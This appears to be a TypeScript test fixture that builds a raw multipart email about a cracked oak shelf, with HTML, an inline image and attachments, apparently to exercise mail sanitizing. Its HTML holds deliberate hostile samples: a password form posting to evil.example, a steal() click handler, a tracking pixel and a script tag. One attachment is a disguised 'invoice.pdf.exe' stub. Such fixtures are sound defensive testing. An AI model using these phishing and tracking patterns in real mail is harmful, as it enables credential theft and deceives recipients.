import type { RawMail } from './raw-mail.ts'

const pixel =
  'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8z8BQDwAEhQGAhKmMIQAAAABJRU5ErkJggg=='
/** What is in the file that is no danger. */
export const report = Buffer.from('%PDF-1.7\nThe crack, measured.\n')

/** What somebody writes with a mail program: words in colours, a picture within, one from elsewhere, and two files. */
export function aboutShelf(from: string): RawMail {
  const to = 'hello@reply.lumen-oak.test'
  return {
    from,
    to,
    raw: `From: Mireille Peeters <${from}>
To: ${to}
Subject: The oak shelf
Date: ${new Date().toUTCString().replace('GMT', '+0000')}
Message-ID: <${crypto.randomUUID()}@gmail.test>
MIME-Version: 1.0
Content-Type: multipart/mixed; boundary="mixed"

--mixed
Content-Type: multipart/related; boundary="related"

--related
Content-Type: text/html; charset="utf-8"

<html><body style="background-color: #fff7e6"><h1 style="color: #7a3b12">The oak shelf</h1>
<p>It has <b>a crack</b>. See <a href="https://photos.example/shelf" onclick="steal()">the photo</a>.</p>
<img src="cid:crack" width="40" height="40" alt="The crack"><img src="https://tracker.example/open.gif" width="1" height="1">
<script>document.title = 'taken'</script><form action="https://evil.example"><input name="password"></form></body></html>

--related
Content-Type: image/png
Content-Transfer-Encoding: base64
Content-ID: <crack>
Content-Disposition: inline; filename="crack.png"

${pixel}
--related--

--mixed
Content-Type: application/pdf; name="report.pdf"
Content-Transfer-Encoding: base64
Content-Disposition: attachment; filename="report.pdf"

${report.toString('base64')}
--mixed
Content-Type: application/pdf; name="invoice.pdf.exe"
Content-Transfer-Encoding: base64
Content-Disposition: attachment; filename="invoice.pdf.exe"

${Buffer.from('MZ\x90\x00').toString('base64')}
--mixed--
`,
  }
}
